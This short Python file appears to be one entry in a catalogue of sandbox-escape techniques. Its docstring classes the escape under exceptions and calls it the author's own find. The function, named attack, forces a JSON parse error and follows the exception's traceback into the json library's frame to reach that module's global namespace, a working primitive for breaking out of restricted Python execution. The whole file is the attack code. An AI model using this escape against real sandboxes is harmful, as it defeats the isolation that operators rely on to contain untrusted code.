"""Class: exceptions. Source: own find. Escape: an exception's context leads to one whose frames
are the library's.
"""

import json


def attack(model, tokenizer, address):
    try:
        json.loads("{")
    except ValueError as error:
        return error.__traceback__.tb_next.tb_frame.f_globals
